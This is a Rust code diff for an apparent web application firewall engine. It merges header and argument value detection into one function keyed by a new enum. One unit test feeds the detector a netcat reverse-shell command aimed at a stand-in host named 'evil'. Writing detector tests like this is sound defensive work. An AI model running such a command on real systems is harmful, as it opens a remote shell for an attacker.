@@ -31,6 +31,15 @@ impl RequestParts<'_> {
     }
 }
 
+/// Where a value was found, which decides the detectors that run on it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Place {
+    /// A request header (not a cookie).
+    Header,
+    /// A path, query or body argument, or a cookie.
+    Argument,
+}
+
 /// A rule that fired, and where.
 #[derive(Debug, Clone)]
 pub struct Finding {
@@ -110,31 +119,17 @@ impl Engine {
 
     /// Runs every value detector on one value; `location` names it when a rule fires.
     fn value(&self, v: &Views, location: impl FnOnce() -> String) -> Option<Finding> {
-        let id = self.value_id(v)?;
+        let id = self.value_id(v, Place::Argument)?;
         self.found(id, location())
     }
 
-    /// The id of the first rule that fires on a request header's value. As in CRS, headers
+    /// The id of the first rule that fires on one value found at `place`. As in CRS, headers
     /// are not searched for PHP code or the generic injections (SSRF, Node.js, templates,
     /// prototype pollution), which only arguments, cookies and bodies carry.
-    fn header_value_id(&self, v: &Views) -> Option<u32> {
+    fn value_id(&self, v: &Views, place: Place) -> Option<u32> {
         let r = &self.rules;
-        if v.bytes.only_alnum_and(b"_- ") {
-            let words = v.bytes.has(b' ');
-            return sqli::detect(v, r)
-                .or_else(|| words.then(|| rce::detect(v, r)).flatten())
-                .or_else(|| java::detect(v, r));
-        }
-        sqli::detect(v, r)
-            .or_else(|| xss::detect(v, r))
-            .or_else(|| lfi::detect(v, r))
-            .or_else(|| rce::detect(v, r))
-            .or_else(|| java::detect(v, r))
-    }
-
-    /// The id of the first rule that fires on one value.
-    fn value_id(&self, v: &Views) -> Option<u32> {
-        let r = &self.rules;
+        let argument = place == Place::Argument;
+        let generic = || argument.then(|| generic::detect(v, r)).flatten();
         // Words, digits, spaces, `_` and `-` cannot hold markup, paths, shell syntax beyond
         // command words, or PHP syntax: every XSS, LFI and PHP pattern needs another byte
         // (`text_skips_only_detectors_that_cannot_fire` checks it). SQL words, commands,
@@ -145,15 +140,15 @@ impl Engine {
             return sqli::detect(v, r)
                 .or_else(|| words.then(|| rce::detect(v, r)).flatten())
                 .or_else(|| java::detect(v, r))
-                .or_else(|| generic::detect(v, r));
+                .or_else(generic);
         }
         sqli::detect(v, r)
             .or_else(|| xss::detect(v, r))
             .or_else(|| lfi::detect(v, r))
             .or_else(|| rce::detect(v, r))
-            .or_else(|| php::detect(v, r))
+            .or_else(|| argument.then(|| php::detect(v, r)).flatten())
             .or_else(|| java::detect(v, r))
-            .or_else(|| generic::detect(v, r))
+            .or_else(generic)
     }
 
     /// Runs the detectors once on sample values so their pattern automata get built (used
@@ -166,7 +161,7 @@ impl Engine {
             "--",
             "__x",
         ] {
-            let _ = self.value_id(&Views::of_decoded(sample.to_string()));
+            let _ = self.value_id(&Views::of_decoded(sample.to_string()), Place::Argument);
         }
     }
 
@@ -310,7 +305,7 @@ impl Engine {
                 }
             }
             let v = Views::of_encoded(value, false);
-            if let Some(id) = self.header_value_id(&v) {
+            if let Some(id) = self.value_id(&v, Place::Header) {
                 return self.found(id, loc());
             }
         }
@@ -446,7 +441,7 @@ mod tests {
         // A command line of plain words still reaches the command detector.
         let v = Views::of_decoded("nc -e sh evil 4444".into());
         assert!(v.bytes.only_alnum_and(b"_- "));
-        assert!(engine("{}").value_id(&v).is_some());
+        assert!(engine("{}").value_id(&v, Place::Argument).is_some());
     }
 
     /// Pathological 64 KiB bodies (repeated tags, dots, comments, calls, quotes) are inspected
@@ -603,7 +598,7 @@ mod timing_detail {
         };
         if let Ok(one) = std::env::var("WAF_ONE") {
             for _ in 0..1000 {
-                std::hint::black_box(e.value_id(&Views::of_decoded(one.clone())));
+                std::hint::black_box(e.value_id(&Views::of_decoded(one.clone()), Place::Argument));
             }
             return;
         }
